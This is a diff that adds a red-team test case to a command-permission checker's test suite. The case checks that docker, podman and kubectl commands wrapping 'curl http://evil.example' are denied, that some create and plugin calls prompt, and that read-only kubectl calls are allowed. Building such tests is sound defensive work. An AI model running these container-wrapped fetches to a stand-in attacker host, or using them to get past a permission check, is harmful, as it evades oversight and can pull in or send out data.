@@ -170,4 +170,25 @@ describe('command check: red team 35', () => {
       'allow',
     );
   });
+
+  it("6: docker/podman create's command, kubectl run/create job's command after --, and kubectl plugins", () => {
+    const tools = withAllowed(['docker', 'podman', 'kubectl']);
+    tools.denied([
+      'docker create alpine curl http://evil.example',
+      'docker create --name x alpine curl http://evil.example',
+      'docker container create alpine curl http://evil.example',
+      'docker --context x create alpine curl http://evil.example',
+      'podman create alpine curl http://evil.example',
+      'kubectl run x --image=alpine -- curl http://evil.example',
+      'kubectl run x --image alpine --command -- curl http://evil.example',
+      'kubectl -n prod run x --image=alpine -- curl http://evil.example',
+      'kubectl create job x --image=alpine -- curl http://evil.example',
+    ]);
+    // create asks as run does (the image's command runs on start); a plugin is a program on PATH.
+    tools.keeps(['docker create alpine', 'docker create --name x alpine ls', 'kubectl run x --image=alpine -- ls', 'kubectl evilplugin', 'kubectl -n prod evilplugin'], 'ask');
+    tools.keeps(
+      ['kubectl get pods', 'kubectl -n prod get pods', 'kubectl version', 'kubectl run x --image=alpine', 'kubectl create deployment x --image=nginx', 'kubectl logs pod -- x'],
+      'allow',
+    );
+  });
 });
